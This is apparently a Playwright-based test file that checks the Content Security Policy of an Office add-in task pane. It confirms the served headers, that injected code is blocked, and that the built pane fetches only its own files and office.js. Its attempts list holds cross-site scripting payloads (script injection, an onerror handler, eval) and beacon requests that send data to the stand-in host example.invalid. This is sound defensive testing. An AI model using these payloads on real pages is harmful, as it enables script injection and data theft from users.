/** Nobody is let in and nothing gets out: the pane runs under the policy that hosts are asked to send, and asks for its own files only. */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { Frame } from 'playwright-core';
import {
  makeServerHeaders,
  OFFICE_CDN,
  OFFICE_SCRIPT,
} from '../../scripts/webpack/content-security-policy.mjs';
import { serveWorkbench } from '../../scripts/workbench/serve.mjs';
import { BROWSER_TEST_TIME, describeInBrowser, expectSoon, newPage, openWorkbench } from './browser';
import { headline } from './pane';

jest.setTimeout(BROWSER_TEST_TIME);
const ROOT = join(__dirname, '../..');
const BUILT = join(ROOT, 'dist');
const OFFICE_FOLDER = join(ROOT, 'node_modules/@microsoft/office-js/dist');

/** What somebody would try who got text of theirs into the page. They run in the pane, so they are text. */
const ATTEMPTS: readonly [string, string, RegExp][] = [
  [
    'a script in the page',
    `const s = document.createElement('script'); s.textContent = 'window.isIn = 1'; document.body.append(s);`,
    /script/i,
  ],
  [
    'a handler in an attribute',
    `const d = document.createElement('div'); d.innerHTML = '<img src="data:," onerror="window.isIn = 1">'; document.body.append(d);`,
    /script/i,
  ],
  [
    'text run as a program',
    // Later: what the browser's own tools run is let through.
    `setTimeout(() => { (0, eval)('window.isIn = 1'); });`,
    /eval|script/i,
  ],
  [
    'a script from elsewhere',
    `const s = document.createElement('script'); s.src = 'https://example.invalid/x.js'; document.body.append(s);`,
    /script/i,
  ],
  ['a request to elsewhere', `fetch('https://example.invalid/?plan').catch(() => undefined);`, /connect/i],
  ['a picture from elsewhere', `new Image().src = 'https://example.invalid/?plan';`, /img/i],
  [
    'a frame of elsewhere',
    `const i = document.createElement('iframe'); i.src = 'https://example.invalid/'; document.body.append(i);`,
    /frame/i,
  ],
  // The last: a frame whose form was stopped may be left without its page.
  [
    'a form sent elsewhere',
    `const f = document.createElement('form'); f.action = 'https://example.invalid/'; document.body.append(f); f.submit();`,
    /form/i,
  ],
];

describeInBrowser('The pane', () => {
  test('is served with the headers that the guide asks hosts to send', async () => {
    const { page } = await openWorkbench();
    const { origin } = new URL(page.url());
    const response = await page.request.get(`${origin}/taskpane.html`);
    const { 'Strict-Transport-Security': notForLocalhost, ...headers } = makeServerHeaders();
    expect(notForLocalhost).toBeDefined();
    for (const [name, value] of Object.entries(headers))
      expect([name, response.headers()[name.toLowerCase()]]).toEqual([name, value]);
  });

  test('lets nobody in who got text of theirs into the page, and a run in which it is tried fails', async () => {
    const { page, pane, faults } = await openWorkbench();
    await headline(pane);
    const frame = page.frames().find((one) => one.url().endsWith('taskpane.html')) as Frame;
    const stopped: string[] = [];
    for (const [name, attempt, directive] of ATTEMPTS) {
      expect(faults).toEqual([]);
      await frame.evaluate(attempt);
      const isFault = (fault: string) => directive.test(fault) && /Policy|directive/i.test(fault);
      await expectSoon(async () => [name, faults.some(isFault)], [name, true]);
      await expectSoon(
        async () => (await frame.evaluate('window.isIn').catch(() => 'not known yet')) === undefined,
        true,
      );
      // What is still said of it is not taken for the next.
      await page.waitForTimeout(200);
      stopped.push(name);
      // They were asked for: what is left would fail this test, as it fails every other.
      (faults as string[]).length = 0;
    }
    expect(stopped).toHaveLength(ATTEMPTS.length);
  });
});

describeInBrowser('The pane as it is built for hosts', () => {
  test("asks for its own files and Microsoft's office.js, and for nothing else", async () => {
    if (!existsSync(join(BUILT, 'taskpane.html')))
      throw new Error('Run "npm run build" first: there is no dist.');
    const server = await serveWorkbench(0, BUILT);
    const page = await newPage();
    try {
      const asked: string[] = [];
      const refused: string[] = [];
      page.on('request', (request) => asked.push(request.url()));
      page.on('console', (message) => {
        if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text());
      });
      // Microsoft's library as it stands in node_modules; whatever else it asks Microsoft for is not there.
      await page.route(`${OFFICE_CDN}/**`, (route) => {
        const name = new URL(route.request().url()).pathname.replace('/lib/1/hosted/', '');
        const path = join(OFFICE_FOLDER, name);
        return existsSync(path) ? route.fulfill({ path }) : route.fulfill({ status: 404 });
      });
      await page.goto(`${server.address}taskpane.html`);
      await page.getByText(/\S/).first().waitFor();
      await page.waitForLoadState('networkidle');
      expect(asked).toContain(OFFICE_SCRIPT);
      const strange = asked.filter(
        (url) =>
          !url.startsWith(server.address) &&
          !url.startsWith(`${OFFICE_CDN}/lib/1/hosted/`) &&
          !url.startsWith('data:'),
      );
      expect(strange).toEqual([]);
      expect(refused).toEqual([]);
    } finally {
      await page.context().close();
      await server.close();
    }
  });
});
